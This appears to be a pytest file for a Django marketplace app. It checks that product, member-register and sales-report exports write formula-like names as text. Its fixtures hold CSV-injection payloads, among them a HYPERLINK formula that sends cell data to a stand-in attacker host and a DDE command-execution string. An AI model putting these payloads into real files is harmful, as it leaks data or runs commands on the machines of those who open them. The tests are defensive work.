"""No export carries a live formula (issue 14, finding 2): a seller's product or a member's name
written as a formula comes out as text in CSV and XLSX, opened here as a spreadsheet program
would read them; numbers stay numbers."""

import base64
import csv
import datetime
import io

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from graphql_relay import to_global_id
from openpyxl import load_workbook

from catalog.models import Product
from members.models import Member
from orders.reports import SalesReport, sales_report_xlsx
from tests.catalog.test_bulk import run_import

pytestmark = pytest.mark.django_db

HYPERLINK = '=HYPERLINK("http://evil.example/?d="&A1,"Klik")'
RISKY = [HYPERLINK, "+cmd|' /C calc'!A0", "@SUM(1+1)", "-2+3", "\t=1+1", "\r=1+1"]


def _csv_rows(content: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(content.decode("utf-8-sig"))))


def _xlsx_rows(content: bytes, sheet: int = 0) -> list[list]:
    book = load_workbook(io.BytesIO(content))
    rows = list(book.worksheets[sheet].iter_rows())
    assert all(cell.data_type != "f" for row in rows for cell in row), "a formula cell"
    return [[cell.value for cell in row] for row in rows]


def _export_products(gql, seller, file_format):
    exported = gql("""mutation($seller: ID!, $format: ProductExportFormat!) {
        productExport(seller: $seller, format: $format) { content errors { code } } }""",
                   {"seller": to_global_id("Seller", seller.pk), "format": file_format})
    return base64.b64decode(exported["productExport"]["content"])


def test_product_export_writes_formula_names_as_text(gql, seller, published):
    Product.objects.filter(pk=published.pk).update(name=HYPERLINK)
    gql.login(seller.owner)
    rows = _csv_rows(_export_products(gql, seller, "CSV"))
    name, price = rows[0].index("name"), rows[0].index("price")
    assert rows[1][name] == "'" + HYPERLINK
    assert rows[1][price] == "25000"
    sheet = _xlsx_rows(_export_products(gql, seller, "XLSX"))
    assert sheet[1][sheet[0].index("name")] == HYPERLINK  # a text cell, shown as typed
    assert sheet[1][sheet[0].index("price")] == 25000


def test_an_exported_sheet_imports_back_unchanged(gql, seller, published, settings, tmp_path):
    settings.MEDIA_ROOT = tmp_path
    Product.objects.filter(pk=published.pk).update(name="-Promo- Emping")
    gql.login(seller.owner)
    content = _export_products(gql, seller, "CSV")
    assert b"'-Promo- Emping" in content
    again = run_import(gql, seller, False, SimpleUploadedFile("produk.csv", content))
    assert [r["action"] for r in again["rows"]] == ["unchanged"]


def test_member_register_export_writes_formulas_as_text(gql, manager_a, coop_a):
    for number, name in enumerate(RISKY, start=1):
        Member.objects.create(cooperative=coop_a, member_number=f"A-{number:04d}",
                              full_name=name, address="=1+1", status="anggota",
                              savings_wajib=-5000 if number == 1 else 1000)
    gql.login(manager_a)

    def export(file_format):
        data = gql('mutation($f: String!) { memberExport(cooperative: "koperasi-a", '
                   "format: $f) { content } }", {"f": file_format})
        return base64.b64decode(data["memberExport"]["content"])

    rows = _csv_rows(export("csv"))
    names = [row[rows[0].index("Nama")] for row in rows[1:]]
    assert names == ["'" + name for name in RISKY]
    assert {row[rows[0].index("Alamat")] for row in rows[1:]} == {"'=1+1"}
    sheet = _xlsx_rows(export("xlsx"))
    # (XML keeps a CR as a line feed; either way a text cell.)
    assert [row[sheet[0].index("Nama")] for row in sheet[1:]] == [
        name.replace("\r", "\n") for name in RISKY]
    assert sheet[1][sheet[0].index("Simpanan Wajib")] == -5000  # a number, not text


def test_sales_report_xlsx_writes_names_as_text_and_amounts_as_numbers():
    day = datetime.date(2026, 11, 30)
    report = SalesReport(
        start=day, end=day, total=70000, units=3, member_total=0, non_member_total=70000,
        by_day=[(day, -5000)], by_seller=[("+cmd|' /C calc'!A0", 75000)],
        by_category=[("@SUM(A1:A9)", 75000)], top_products=[(HYPERLINK, 3, 75000)])
    content = sales_report_xlsx(report)
    assert _xlsx_rows(content, 1)[1][1] == -5000
    assert _xlsx_rows(content, 2)[1] == ["+cmd|' /C calc'!A0", 75000]
    assert _xlsx_rows(content, 3)[1] == ["@SUM(A1:A9)", 75000]
    assert _xlsx_rows(content, 4)[1] == [HYPERLINK, 3, 75000]
